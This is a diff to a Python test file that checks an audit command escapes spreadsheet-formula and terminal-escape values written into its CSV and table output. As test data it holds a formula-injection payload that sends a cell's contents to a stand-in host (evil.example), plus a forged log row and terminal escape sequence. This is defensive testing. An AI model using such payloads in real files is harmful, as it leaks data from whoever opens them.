@@ -155,8 +155,8 @@ def test_json_output_from_postgresql(tree, capsys, pg_schema):
 
 def test_the_table_shows_what_an_event_wrote_on_one_line_each(tree, capsys):
     """A recipient or id from an event file can hold a newline or a terminal escape: the
-    table must not show a forged row or let the terminal act on it (json and csv carry
-    the values as they are)."""
+    table must not show a forged row or let the terminal act on it (json carries the
+    values as they are)."""
     tree.write_config()
     db.open_database(f"sqlite:///{tree.db_path}")
     forged = "#x\n2026-01-01T00:00:00Z  payroll  r9  failed  slack  #payroll  SENT"
@@ -172,3 +172,32 @@ def test_the_table_shows_what_an_event_wrote_on_one_line_each(tree, capsys):
     assert "\\n2026-01-01" in out and "\\x1b]0;owned" in out
     code, out = run(tree, capsys, "audit", "--format", "json")
     assert json.loads(out)[0]["recipient"] == forged
+
+
+def test_csv_cells_an_event_wrote_cannot_run_as_spreadsheet_formulas(tree, capsys):
+    """An event file chooses job ids, run ids and error texts; `audit --format csv` is opened
+    in spreadsheets. A cell that starts like a formula (=, +, -, @, a tab, a carriage return)
+    is written with a leading apostrophe, so it shows as text; json keeps the value as is."""
+    tree.write_config()
+    db.open_database(f"sqlite:///{tree.db_path}")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    db.NotificationRow.insert(created_at=db.utcnow(), job_id=formula, run_id="@SUM(1+1)",
+                              alert="failed", level="high", transport="hook",
+                              transport_type="webhook", recipient="+1-555", outcome="SENT",
+                              detail="-2+3", duration_ms=1, replica="a").execute()
+    db.NotificationRow.insert(created_at=db.utcnow(), job_id="nightly", run_id="\tr2",
+                              alert="failed", level="high", transport="hook",
+                              transport_type="webhook", recipient="ops@example.com",
+                              outcome="SENT", detail="exit 1", duration_ms=-1,
+                              replica="a").execute()
+    db.proxy.close()
+    code, out = run(tree, capsys, "audit", "--format", "csv")
+    assert code == 0
+    first, second = csv.DictReader(io.StringIO(out))
+    assert (first["job_id"], first["run_id"], first["recipient"], first["detail"]) == (
+        "'" + formula, "'@SUM(1+1)", "'+1-555", "'-2+3")
+    assert (second["job_id"], second["run_id"], second["recipient"]) == (
+        "nightly", "'\tr2", "ops@example.com")
+    assert second["duration_ms"] == "-1"  # a number is a number, not text
+    code, out = run(tree, capsys, "audit", "--format", "json")
+    assert json.loads(out)[0]["job_id"] == formula
